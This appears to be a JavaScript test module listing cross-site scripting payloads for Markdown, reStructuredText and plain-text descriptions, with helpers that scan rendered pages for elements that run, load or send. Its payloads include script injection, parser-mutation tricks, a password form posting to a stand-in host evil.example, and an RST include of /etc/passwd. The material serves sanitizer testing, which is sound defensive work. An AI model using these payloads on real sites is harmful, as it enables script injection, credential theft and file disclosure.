// Words that become script or markup in a page that lets them, and how a page is searched for what became of them.
// They are chosen anew, beside those of store/tests/xss, so that what one list forgot the other may know.

const RUN = 'alert(document.domain)';
const BROKEN_IMAGE = `<img src=x onerror=${RUN}>`;

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt/x>${RUN}</sCrIpT >`,
  `<script src=https://evil.example/x.js></script>`,
  `<script>${RUN}`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script href=data:,${RUN} /></svg>`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><set attributeName=href to=javascript:${RUN} /><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${RUN}>x</maction></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src=javascript:${RUN}></iframe>`,
  `<object data=javascript:${RUN}></object>`,
  `<embed src=https://evil.example/x.swf>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<META HTTP-EQUIV="Refresh" CONTENT="0;URL='javascript:${RUN}'">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=prefetch href=https://evil.example/x>`,
  `<style>@import 'https://evil.example/x.css'; body { display: none }</style>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/x)">x</div>`,
  `<form action=https://evil.example/><input name=password type=password autofocus><button>Log in</button></form>`,
  `<form id=x></form><button form=x formaction=javascript:${RUN}>x</button>`,
  `<isindex action=javascript:${RUN} type=image>`,
  `<video poster=https://evil.example/x.png><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<dialog open>x</dialog>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<plaintext>`,
];

const HANDLERS = [
  BROKEN_IMAGE,
  `<IMG SRC=x ONERROR="${RUN}">`,
  `<img/src='x'/onerror='${RUN}'>`,
  `<img src=x\nonerror\n=\n${RUN}\n>`,
  `<img src=https://evil.example/x.png srcset="https://evil.example/y.png 2x" alt=x>`,
  `<body onpageshow=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<a href=# autofocus tabindex=1 onfocus=${RUN}>x</a>`,
  `<p style=animation:spin onanimationstart=${RUN}>x`,
  `<b onmouseover="${RUN}">x</b>`,
  `<xss id=x contenteditable onbeforeinput=${RUN} onclick=${RUN}>x</xss>`,
  `<q cite=x oncopy='${RUN}'>x</q>`,
];

const BREAKOUTS = [
  `">${BROKEN_IMAGE}`,
  `'>${BROKEN_IMAGE}`,
  `" autofocus onfocus=${RUN} x="`,
  `' onmouseover=${RUN} x='`,
  `--><script>${RUN}</script><!--`,
  `]]>${BROKEN_IMAGE}`,
  `</title></textarea></style></script>${BROKEN_IMAGE}`,
  `</dd></dl></section></main></body></html>${BROKEN_IMAGE}`,
  `<img src="x` + `" onerror=${RUN} x="`,
  `<a title="`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
];

const MUTATIONS = [
  `<noscript><p title="</noscript>${BROKEN_IMAGE}">x</p></noscript>`,
  `<template><p title="</template>${BROKEN_IMAGE}">x</p></template>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style>${BROKEN_IMAGE}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${BROKEN_IMAGE}`,
  `<svg><foreignObject><p><iframe onload=${RUN}></foreignObject></svg>`,
  `<math><annotation-xml encoding=text/html>${BROKEN_IMAGE}</annotation-xml></math>`,
  `<select><style></select>${BROKEN_IMAGE}</style>`,
  `<xmp><p title="</xmp>${BROKEN_IMAGE}">`,
  `<a id=cookie name=body>x</a><section id=main name=forms>x</section>`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `&#106;avascript&colon;${RUN}`,
  `java&Tab;script:${RUN}`,
  `javascript://evil.example/%0a${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `view-source:https://evil.example/`,
];

const EVERYWHERE = [...ELEMENTS, ...HANDLERS, ...BREAKOUTS, ...MUTATIONS, ...ADDRESSES.map((address) => `<a href="${address}">x</a>`)];

const MARKDOWN = [
  ...ADDRESSES.flatMap((address) => [`[x](${address})`, `[x](<${address}>)`, `<${address}>`, `![x](${address})`, `[y]\n\n[y]: ${address}`]),
  `[x](https://example.org/ "\\" onmouseover=${RUN} x=\\"")`,
  `[x](https://example.org/"onmouseover="${RUN})`,
  `![" onerror=${RUN} x="](https://evil.example/x.png)`,
  `\`\`\`js" onload=${RUN} x="\n${BROKEN_IMAGE}\n\`\`\``,
  `x[^${BROKEN_IMAGE}]\n\n[^${BROKEN_IMAGE}]: x`,
  `| ${BROKEN_IMAGE} |\n| --- |\n| ${BROKEN_IMAGE} |`,
  `> [!NOTE] ${BROKEN_IMAGE}\n> ${BROKEN_IMAGE}`,
  `# "><b id="x" onclick="${RUN}`,
  `- [x] </li></ul>${BROKEN_IMAGE}`,
  `<a href="https://example.org"\n\n${BROKEN_IMAGE}\n\n">`,
];

const RESTRUCTURED = [
  ...ADDRESSES.map((address) => `\`x <${address}>\`__`),
  ...ADDRESSES.map((address) => `.. image:: ${address}\n   :target: ${address}\n   :alt: ${BROKEN_IMAGE}`),
  `.. raw:: html\n\n   ${BROKEN_IMAGE}`,
  `.. role:: as-it-is(raw)\n   :format: html\n\n:as-it-is:\`${BROKEN_IMAGE}\``,
  `.. include:: /etc/passwd\n   :literal:`,
  `.. raw:: html\n   :url: https://evil.example/`,
  `.. csv-table:: x\n   :url: https://evil.example/x.csv`,
  `.. meta::\n   :http-equiv=refresh: 0;url=javascript:${RUN}`,
  `.. class:: "onclick=${RUN}\n\nx`,
  `.. container:: frame\n   :name: main\n\n   ${BROKEN_IMAGE}`,
  `.. |x| replace:: ${BROKEN_IMAGE}\n\n|x|`,
  `.. math::\n\n   \\href{javascript:${RUN}}{x}`,
];

/** What descriptions may be written in, and the words that are hostile in it. */
export const KINDS = {
  'text/markdown': [...EVERYWHERE, ...MARKDOWN],
  'text/x-rst': [...EVERYWHERE, ...RESTRUCTURED],
  'text/plain': EVERYWHERE,
};

/** Addresses that may not become a link of a project. */
export const RUNNING = ADDRESSES.filter((address) => !address.startsWith('java&'));

const TOGETHER = 8;

/** Some at a time: one of them that swallows what follows shall not hide all others. */
export function groups(words) {
  return Array.from({ length: Math.ceil(words.length / TOGETHER) }, (_, at) => words.slice(at * TOGETHER, (at + 1) * TOGETHER));
}

/** All on this page that runs, loads or sends, one line each. What differs between two visits, a nonce and a sealed form, is left out. */
export function powers(page) {
  return page.evaluate(() => {
    const tags = 'script, style, link, meta, base, title, iframe, frame, object, embed, form, input, textarea, select, button, img, svg, math, video, audio, template, noscript, dialog';
    const telling = ['src', 'href', 'action', 'formaction', 'method', 'type', 'name', 'rel', 'http-equiv'];
    const told = (element) => telling.filter((name) => element.hasAttribute(name)).map((name) => ` ${name}=${element.getAttribute(name)}`);
    const lines = [...document.querySelectorAll(tags)].map((element) => element.localName + told(element).join(''));
    for (const element of document.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on') || name === 'srcdoc') lines.push(`${element.localName} ${name}=${value}`);
        // As a browser reads it: without white space in it and control characters before it.
        const address = value.replace(/[\t\n\r]/g, '').replace(/^[\0-\x20]+/, '');
        if (/^(javascript|vbscript|data):/i.test(address)) lines.push(`${element.localName} ${name}=${value}`);
      }
    }
    return lines.sort();
  });
}

/** What a description holds that none may, whatever is on the page around it. */
export function strangers(page) {
  return page.locator('.readme, .description').evaluateAll(([description]) => {
    const allowed = /^(https?|mailto):$/;
    const harmless = (element) => element.namespaceURI === 'http://www.w3.org/1999/xhtml'
      && !element.matches('script, style, link, meta, base, iframe, frame, object, embed, form, input, textarea, select, button, img, video, audio, template, noscript, dialog')
      && ![...element.attributes].some(({ name }) => name.startsWith('on') || name === 'style' || name === 'src')
      && (!element.hasAttribute('href') || element.getAttribute('href').startsWith('#user-content-') || allowed.test(element.protocol));
    return [...description.querySelectorAll('*')].filter((element) => !harmless(element)).map((element) => element.outerHTML.slice(0, 200));
  });
}
